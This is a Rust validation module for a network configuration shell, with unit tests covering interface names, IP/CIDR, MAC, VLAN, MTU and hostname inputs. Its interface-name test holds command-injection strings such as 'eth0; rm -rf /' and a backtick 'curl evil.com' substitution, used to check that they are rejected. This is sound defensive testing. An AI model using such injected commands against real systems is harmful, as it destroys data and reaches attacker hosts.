//! Input validation and sanitization
//!
//! Every token that ends up in an OS command argument list passes through here first.

use crate::error::{ShellError, ShellResult};
use std::net::{IpAddr, Ipv4Addr};

/// Maximum length for interface names (Linux kernel limit is 15)
const MAX_INTERFACE_NAME_LEN: usize = 15;

/// Maximum length for free-form values such as descriptions and banners
const MAX_CONFIG_VALUE_LEN: usize = 255;

/// Maximum length for object names kept only in the store (pools, VLAN names)
const MAX_OBJECT_NAME_LEN: usize = 64;

/// Validate interface name to prevent command injection
///
/// Interface names must be alphanumeric with optional dashes, dots and underscores,
/// and no longer than 15 characters (Linux kernel limit)
pub fn validate_interface_name(name: &str) -> ShellResult<()> {
    if name.is_empty() {
        return Err(ShellError::InvalidParameter(
            "Interface name cannot be empty".to_string()
        ));
    }

    if name.len() > MAX_INTERFACE_NAME_LEN {
        return Err(ShellError::InvalidParameter(
            format!("Interface name too long (max {} characters)", MAX_INTERFACE_NAME_LEN)
        ));
    }

    for c in name.chars() {
        if !c.is_ascii_alphanumeric() && c != '-' && c != '_' && c != '.' {
            return Err(ShellError::InvalidParameter(
                format!("Invalid interface name '{}': contains invalid character '{}'", name, c)
            ));
        }
    }

    // Could be read as an option by ip(8)
    if name.starts_with('-') {
        return Err(ShellError::InvalidParameter(
            "Interface name cannot start with dash".to_string()
        ));
    }

    Ok(())
}

/// Validate names of store-only objects (DHCP pools, NAT pools, VLAN names)
pub fn validate_object_name(name: &str) -> ShellResult<()> {
    if name.is_empty() || name.len() > MAX_OBJECT_NAME_LEN {
        return Err(ShellError::InvalidParameter(
            format!("Name must be 1-{} characters", MAX_OBJECT_NAME_LEN)
        ));
    }

    if name.starts_with('-') || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_') {
        return Err(ShellError::InvalidParameter(
            format!("Invalid name '{}'", name)
        ));
    }

    Ok(())
}

/// Validate IP address
pub fn validate_ip_address(addr: &str) -> ShellResult<IpAddr> {
    addr.parse::<IpAddr>()
        .map_err(|_| ShellError::InvalidParameter(
            format!("Invalid IP address: {}", addr)
        ))
}

/// Validate an IPv4 address
pub fn validate_ipv4_address(addr: &str) -> ShellResult<Ipv4Addr> {
    addr.parse::<Ipv4Addr>()
        .map_err(|_| ShellError::InvalidParameter(
            format!("Invalid IPv4 address: {}", addr)
        ))
}

/// Validate `address/prefix` notation and return both parts
pub fn validate_cidr(cidr: &str) -> ShellResult<(IpAddr, u8)> {
    let (addr, prefix) = cidr.split_once('/')
        .ok_or_else(|| ShellError::InvalidParameter(
            format!("Expected <address>/<prefix>, got '{}'", cidr)
        ))?;

    let ip = validate_ip_address(addr)?;
    let prefix: u8 = prefix.parse()
        .map_err(|_| ShellError::InvalidParameter(
            format!("Invalid prefix length in '{}'", cidr)
        ))?;
    validate_prefix_len(prefix, ip.is_ipv6())?;

    Ok((ip, prefix))
}

/// Validate MAC address format
///
/// Accepts `XX:XX:XX:XX:XX:XX` and the IOS dotted form `xxxx.xxxx.xxxx`,
/// returning the colon-separated lowercase form that ip(8) expects.
pub fn validate_mac_address(mac: &str) -> ShellResult<String> {
    let digits: String = if mac.len() == 14 && mac.matches('.').count() == 2 {
        mac.split('.').collect()
    } else if mac.len() == 17 {
        let parts: Vec<&str> = mac.split(':').collect();
        if parts.len() != 6 || parts.iter().any(|p| p.len() != 2) {
            return Err(ShellError::InvalidParameter(
                "MAC address must have 6 octets separated by colons".to_string()
            ));
        }
        parts.concat()
    } else {
        return Err(ShellError::InvalidParameter(
            "MAC address must be in format XX:XX:XX:XX:XX:XX or xxxx.xxxx.xxxx".to_string()
        ));
    };

    if digits.len() != 12 || !digits.chars().all(|c| c.is_ascii_hexdigit()) {
        return Err(ShellError::InvalidParameter(
            format!("Invalid hex digit in MAC address: {}", mac)
        ));
    }

    let lower = digits.to_ascii_lowercase();
    let octets: Vec<&str> = (0..6).map(|i| &lower[i * 2..i * 2 + 2]).collect();
    Ok(octets.join(":"))
}

/// Validate prefix length for IPv4 or IPv6
pub fn validate_prefix_len(prefix: u8, is_ipv6: bool) -> ShellResult<()> {
    let max = if is_ipv6 { 128 } else { 32 };
    if prefix > max {
        return Err(ShellError::InvalidParameter(
            format!("Prefix length {} exceeds maximum {}", prefix, max)
        ));
    }
    Ok(())
}

/// Validate MTU value
pub fn validate_mtu(mtu: u32) -> ShellResult<()> {
    if mtu < 68 {
        return Err(ShellError::InvalidParameter(
            "MTU must be at least 68 bytes".to_string()
        ));
    }
    if mtu > 9000 {
        return Err(ShellError::InvalidParameter(
            "MTU cannot exceed 9000 bytes".to_string()
        ));
    }
    Ok(())
}

/// Parse and validate an 802.1Q VLAN id
pub fn validate_vlan_id(id: &str) -> ShellResult<u16> {
    match id.parse::<u16>() {
        Ok(vid) if (1..=4094).contains(&vid) => Ok(vid),
        _ => Err(ShellError::InvalidParameter(
            format!("Invalid VLAN ID: {}. VLAN ID must be an integer in the range 1-4094.", id)
        )),
    }
}

/// Sanitize configuration values to prevent injection
pub fn sanitize_config_value(value: &str) -> ShellResult<String> {
    if value.chars().any(|c| c.is_control() && c != '\t') {
        return Err(ShellError::InvalidParameter(
            "Configuration value contains invalid control characters".to_string()
        ));
    }

    if value.len() > MAX_CONFIG_VALUE_LEN {
        return Err(ShellError::InvalidParameter(
            format!("Configuration value too long (max {} characters)", MAX_CONFIG_VALUE_LEN)
        ));
    }

    Ok(value.to_string())
}

/// Validate hostname for ping/traceroute targets and the `hostname` command
pub fn validate_hostname(host: &str) -> ShellResult<()> {
    if host.is_empty() {
        return Err(ShellError::InvalidParameter(
            "Hostname cannot be empty".to_string()
        ));
    }

    if host.len() > 253 {
        return Err(ShellError::InvalidParameter(
            "Hostname too long".to_string()
        ));
    }

    if host.parse::<IpAddr>().is_ok() {
        return Ok(());
    }

    for c in host.chars() {
        if !c.is_ascii_alphanumeric() && c != '-' && c != '.' {
            return Err(ShellError::InvalidParameter(
                format!("Invalid hostname character: {}", c)
            ));
        }
    }

    if host.starts_with('-') || host.starts_with('.') ||
       host.ends_with('-') || host.ends_with('.') {
        return Err(ShellError::InvalidParameter(
            "Invalid hostname format".to_string()
        ));
    }

    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_interface_name_validation() {
        assert!(validate_interface_name("eth0").is_ok());
        assert!(validate_interface_name("br-lan").is_ok());
        assert!(validate_interface_name("eth0.10").is_ok());
        assert!(validate_interface_name("veth_test").is_ok());

        // Command injection attempts
        assert!(validate_interface_name("eth0; rm -rf /").is_err());
        assert!(validate_interface_name("wlan0`curl evil.com`").is_err());
        assert!(validate_interface_name("eth0$evil").is_err());

        assert!(validate_interface_name("verylonginterfacename").is_err());
        assert!(validate_interface_name("-eth0").is_err());
        assert!(validate_interface_name("").is_err());
    }

    #[test]
    fn test_cidr_validation() {
        let (ip, prefix) = validate_cidr("192.168.1.1/24").unwrap();
        assert_eq!(ip.to_string(), "192.168.1.1");
        assert_eq!(prefix, 24);

        assert!(validate_cidr("fe80::1/64").is_ok());
        assert!(validate_cidr("192.168.1.1").is_err());
        assert!(validate_cidr("192.168.1.1/33").is_err());
        assert!(validate_cidr("192.168.1.1/abc").is_err());
        assert!(validate_cidr("300.1.1.1/8").is_err());
    }

    #[test]
    fn test_mac_validation() {
        assert_eq!(validate_mac_address("00:11:22:33:44:55").unwrap(), "00:11:22:33:44:55");
        assert_eq!(validate_mac_address("AA:BB:CC:DD:EE:FF").unwrap(), "aa:bb:cc:dd:ee:ff");
        assert_eq!(validate_mac_address("0011.2233.44ff").unwrap(), "00:11:22:33:44:ff");

        assert!(validate_mac_address("00:11:22:33:44").is_err());
        assert!(validate_mac_address("00-11-22-33-44-55").is_err());
        assert!(validate_mac_address("00:11:22:33:44:GG").is_err());
        assert!(validate_mac_address("0011.2233.44gg").is_err());
    }

    #[test]
    fn test_vlan_id_validation() {
        assert_eq!(validate_vlan_id("10").unwrap(), 10);
        assert_eq!(validate_vlan_id("4094").unwrap(), 4094);
        assert!(validate_vlan_id("0").is_err());
        assert!(validate_vlan_id("4095").is_err());
        assert!(validate_vlan_id("ten").is_err());
    }

    #[test]
    fn test_mtu_validation() {
        assert!(validate_mtu(1500).is_ok());
        assert!(validate_mtu(67).is_err());
        assert!(validate_mtu(9001).is_err());
    }

    #[test]
    fn test_object_name_validation() {
        assert!(validate_object_name("pool1").is_ok());
        assert!(validate_object_name("lan_pool-2").is_ok());
        assert!(validate_object_name("").is_err());
        assert!(validate_object_name("pool;1").is_err());
        assert!(validate_object_name("-pool").is_err());
    }

    #[test]
    fn test_hostname_validation() {
        assert!(validate_hostname("example.com").is_ok());
        assert!(validate_hostname("192.168.1.1").is_ok());
        assert!(validate_hostname("gw1").is_ok());

        assert!(validate_hostname("").is_err());
        assert!(validate_hostname("-invalid").is_err());
        assert!(validate_hostname("invalid.").is_err());
        assert!(validate_hostname("host name").is_err());
        assert!(validate_hostname("host;name").is_err());
    }

    #[test]
    fn test_sanitize_config_value() {
        assert_eq!(sanitize_config_value("uplink to core").unwrap(), "uplink to core");
        assert!(sanitize_config_value("bad\nvalue").is_err());
        assert!(sanitize_config_value(&"x".repeat(256)).is_err());
    }
}
